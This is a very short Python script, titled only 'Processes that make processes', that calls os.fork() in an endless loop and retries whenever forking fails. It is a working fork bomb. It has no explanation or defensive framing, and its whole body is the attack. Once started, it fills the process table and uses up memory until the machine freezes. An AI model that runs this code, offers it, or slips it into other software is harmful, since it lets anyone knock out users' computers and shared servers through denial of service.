"""Processes that make processes."""
# ends: processes

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
